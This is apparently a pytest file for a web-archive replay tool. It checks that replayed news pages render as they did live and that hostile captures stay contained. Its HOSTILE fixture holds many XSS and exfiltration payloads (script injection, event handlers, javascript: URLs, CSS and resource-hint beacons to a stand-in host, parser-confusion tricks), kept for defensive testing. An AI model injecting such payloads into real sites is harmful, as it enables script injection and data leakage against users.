"""Replay in a real browser: pages look as they did live with scripts off, nothing gets out, hostile pages do no harm."""

from __future__ import annotations

import io
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from chromium import CHROMIUM, Browser, Sinkhole, browsing
from newsroom.check import start
from newsroom.room import Room, free_port
from PIL import Image, ImageChops
from pressed import captures, truth
from replay_home import S1, Server, exchange, make_home, serving

from archive.replay.address import stamp

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
]
EACH = int(os.environ.get("NEWSARK_PIXEL_ARTICLES", "3"))
"""Articles of each publication."""
HOST = "http://evil.example"
OUT = "http://outside.example"


def difference(one: bytes, other: bytes) -> float:
    """The share of pixels that are not equal."""
    first, second = (Image.open(io.BytesIO(data)).convert("RGB") for data in (one, other))
    changed = ImageChops.difference(first, second).convert("L").point(lambda value: 255 if value else 0)
    return float(sum(changed.histogram()[255:])) / (first.width * first.height)


@pytest.mark.parametrize("modifier", ["mp_", ""])
def test_pages_of_the_press_look_as_they_did_live_without_scripts(tmp_path: Path, modifier: str) -> None:
    """At least 99 % of pixels equal on at least 95 % of pages; the banner may cover its own corner only."""
    room = Room(seed=23, articles=EACH, port=free_port([f"127.0.0.{n}" for n in range(2, 10)]), faults="none")
    info, stop = start(room)
    try:
        pages = [page for page in truth(info) if page["first_tick"] == 0 and page["status"].get("0") == "200"]
        exchanges = captures(pages)
        when = {one.url: stamp(one.started) for one in exchanges}
        with serving(make_home(tmp_path / "home", exchanges)) as server:
            with browsing(direct=None) as (live, _):
                live.scripts(on=False)
                before = [_look(live, page["url"]) for page in pages]
            with browsing(direct=(server.port, server.pages)) as (replay, sink):
                after, outside = _replayed(
                    replay, server, [(page["url"], when[page["url"]]) for page in pages], modifier
                )
                assert sink.pages_asked() == []
        assert outside == []
        unlike = [
            page["url"]
            for page, one, other in zip(pages, before, after, strict=True)
            if difference(one, other) > 0.01
        ]
        assert len(unlike) <= len(pages) * 0.05, unlike
        assert len({page["publication"] for page in pages}) == 6
    finally:
        stop()


def _look(browser: Browser, url: str) -> bytes:
    browser.open(url)
    return browser.screenshot()


def _replayed(
    browser: Browser, server: Server, pages: list[tuple[str, str]], modifier: str
) -> tuple[list[bytes], list[str]]:
    shots, outside = [], []
    for url, stamped in pages:
        loaded = browser.open(f"http://127.0.0.1:{server.port}/web/{stamped}{modifier}/{url}")
        outside += [one for one in loaded.requests if not one.startswith(f"http://127.0.0.1:{server.port}/")]
        shots.append(browser.screenshot())
    return shots, outside


SCRIPT = f"fetch('{OUT}/fetch');document.title='OWNED';localStorage.x=1;navigator.sendBeacon('{OUT}/beacon');new Image().src='{OUT}/image'"
HOSTILE: dict[str, Any] = {
    "scripts": f"<script>{SCRIPT}</script><script src='{OUT}/s.js'></script><body onload=\"{SCRIPT}\"><img src=x onerror=\"{SCRIPT}\">"
    f"<svg onload=\"{SCRIPT}\"><iframe srcdoc=\"&lt;script&gt;{SCRIPT}&lt;/script&gt;\"></iframe><a href=\"javascript:{SCRIPT}\" autofocus onfocus=\"{SCRIPT}\">x</a>",
    "title": f"<title></title><script>{SCRIPT}</script></title>\u202egpj.exe",
    "hints": f"<link rel=preconnect href={OUT}><link rel=dns-prefetch href=//outside.example><link rel=prefetch href={OUT}/p><link rel=prerender href={OUT}/p>"
    f"<link rel=preload as=image href={OUT}/pre><link rel=modulepreload href={OUT}/m.js><link rel=icon href={OUT}/i><link rel=manifest href={OUT}/m>",
    "hidden hints": f"<svg><style><p><link rel=preconnect href={OUT}></style></svg><select><style></select><link rel=preconnect href={OUT}></style>"
    f"<script><!--<script></script><!-- </script><link rel=preconnect href={OUT}>-->",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/refresh'><meta http-equiv=refresh content='0;url=data:text/html,<script>{SCRIPT}</script>'>",
    "base": f"<base href={OUT}/><img src=a.png><link rel=stylesheet href=s.css>",
    "css": f"<style>@import '{OUT}/a.css';@font-face{{font-family:f;src:url({OUT}/f)}}body{{background:u\\72l({OUT}/b);font-family:f;cursor:url({OUT}/c),auto}}"
    f"p{{background:image-set('{OUT}/d' 1x)}}</style><p style=\"background:url('{OUT}/e')\">x",
    "media": f"<img src={OUT}/1 srcset='{OUT}/2 2x'><video src={OUT}/3 poster={OUT}/4 autoplay></video><audio src={OUT}/5></audio><object data={OUT}/6></object>"
    f"<embed src={OUT}/7><iframe src={OUT}/8></iframe><input type=image src={OUT}/9><body background={OUT}/10><svg><image href={OUT}/11 /><use href={OUT}/12#x /></svg>"
    f"<picture><source srcset={OUT}/13><img></picture><track src={OUT}/14>",
    "odd slashes": "<img src='\\\\outside.example\\x'><img src='http:\\/outside.example/y'><img src='/\\outside.example/z'><img src='ht&#10;tp://outside.example/w'>",
    "form": f"<form action={OUT}/form method=post><input name=a value=b autofocus></form><isindex action={OUT}>",
    "frames": f"<iframe src='data:text/html,<script>{SCRIPT}</script><img src={OUT}/df>'></iframe><iframe src='javascript:{SCRIPT}'></iframe>",
    "deep": "<div>" * 100_000 + f"<img src={OUT}/deep>",
    "worker": f"<script>navigator.serviceWorker.register('/sw.js')</script><link rel=serviceworker href={OUT}/sw.js>",
    "raw text": f"<noscript><p title=\"</noscript><img src={OUT}/n>\"></noscript><textarea><p title=\"</textarea><img src={OUT}/t>\"></textarea>"
    f"<xmp><p title=\"</xmp><img src={OUT}/x>\"></xmp><math><mi><style><img src={OUT}/m></style></mi></math><template shadowrootmode=open><img src={OUT}/s></template>",
    "drawing": f"<svg><a xlink:href=\"javascript:{SCRIPT}\"></a><a><set attributeName=href to=\"javascript:{SCRIPT}\" /></a><filter><feImage href={OUT}/f /></filter>"
    f"<use href=\"data:image/svg+xml,<svg id=x><image href={OUT}/u></svg>#x\" /><script href={OUT}/s /></svg>",
    "rules": f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{OUT}/p\"],\"eagerness\":\"immediate\"}}]}}</script><link rel=compression-dictionary href={OUT}/d>"
    f"<meta http-equiv=content-security-policy content=\"default-src none; report-uri {OUT}/r\"><link rel=preload as=image imagesrcset=\"{OUT}/i 1x\">",
    "cover": "<style>body *{display:none!important;visibility:hidden!important;opacity:0!important}</style><p>nothing to see",
}  # fmt: skip


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Browser, Sinkhole]]:
    exchanges = [exchange(f"{HOST}/{n}", page.encode("utf-8")) for n, page in enumerate(HOSTILE.values())]
    with (
        serving(make_home(tmp_path_factory.mktemp("hostile") / "home", exchanges)) as server,
        browsing(direct=(server.port, server.pages)) as (browser, sink),
    ):
        yield server, browser, sink


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("modifier", ["", "id_"])
def test_a_hostile_capture_does_no_harm(
    stage: tuple[Server, Browser, Sinkhole], name: str, modifier: str
) -> None:
    server, browser, sink = stage
    number = list(HOSTILE).index(name)
    sink.lines.clear()
    loaded = browser.open(f"http://127.0.0.1:{server.port}/web/{S1}{modifier}/{HOST}/{number}")
    browser.screenshot()
    assert [url for url in loaded.requests if not url.startswith(f"http://127.0.0.1:{server.port}/")] == []
    assert sink.pages_asked() == []
    assert loaded.dialogs == 0
    assert browser.evaluate("document.title") != "OWNED"
    assert browser.evaluate("location.host") == f"127.0.0.1:{server.port}"


def test_the_banner_survives_the_page(stage: tuple[Server, Browser, Sinkhole]) -> None:
    """A page that hides everything in it does not hide our banner: it lives in a shadow tree with rules of its own."""
    server, browser, _ = stage
    number = list(HOSTILE).index("cover")
    browser.open(f"http://127.0.0.1:{server.port}/web/{S1}/{HOST}/{number}")
    box = browser.evaluate(
        "JSON.stringify([...document.querySelectorAll('[role=complementary]')].map(e=>e.getBoundingClientRect().height))"
    )
    assert box is not None
    assert float(box.strip("[]")) > 10


def test_what_is_missing_is_said_in_our_own_style(stage: tuple[Server, Browser, Sinkhole]) -> None:
    server, browser, _ = stage
    loaded = browser.open(f"http://127.0.0.1:{server.port}/web/2014/{HOST}/never")
    assert loaded.requests[f"http://127.0.0.1:{server.port}/-/style.css"] == 200
    assert browser.evaluate("getComputedStyle(document.body).marginTop") == "0px"


def test_our_own_pages_need_nothing_from_outside(stage: tuple[Server, Browser, Sinkhole]) -> None:
    server, browser, sink = stage
    sink.lines.clear()
    for path in ("/", f"/-/captures?url={HOST}/0", f"/-/compare?url={HOST}/0&pages=1", "/-/search?q=x"):
        loaded = browser.open(f"http://127.0.0.1:{server.pages}{path}")
        assert all(
            url.startswith((f"http://127.0.0.1:{server.pages}/", f"http://127.0.0.1:{server.port}/"))
            for url in loaded.requests
        )
        assert browser.evaluate("document.title") != "OWNED"
    assert sink.pages_asked() == []
